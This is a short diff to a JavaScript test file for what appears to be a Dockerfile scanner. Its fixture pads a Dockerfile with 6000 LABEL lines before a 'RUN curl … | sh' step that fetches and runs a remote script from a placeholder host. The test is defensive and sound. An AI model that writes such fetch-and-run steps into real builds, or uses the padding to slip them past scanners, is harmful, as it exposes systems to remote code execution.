@@ -98,9 +98,7 @@ describe("shapes in real files", () => {
   });
 
   test("in more instructions than are read are a gap", () => {
-    const { gaps } = structural.look(
-      fileOf("Dockerfile", `FROM debian\n${"LABEL a=b\n".repeat(6000)}RUN curl https://a.example/x.sh | sh\n`, { language: "dockerfile" }),
-    );
+    const { gaps } = structural.look(fileOf("Dockerfile", `FROM debian\n${"LABEL a=b\n".repeat(6000)}RUN curl https://a.example/x.sh | sh\n`));
     expect(gaps).toEqual([expect.objectContaining({ reason: "too_many", matters: true })]);
   });
 });
